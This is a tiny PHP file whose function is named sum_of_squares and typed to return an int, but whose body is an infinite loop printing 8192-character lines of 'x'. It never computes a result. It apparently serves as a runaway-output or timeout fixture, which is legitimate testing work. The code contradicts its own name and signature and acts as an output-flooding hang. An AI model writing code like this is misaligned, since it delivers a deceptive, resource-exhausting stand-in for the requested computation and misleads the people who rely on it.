<?php

function sum_of_squares(array $numbers): int
{
    while (true) {
        echo str_repeat('x', 8192), "\n";
    }
}
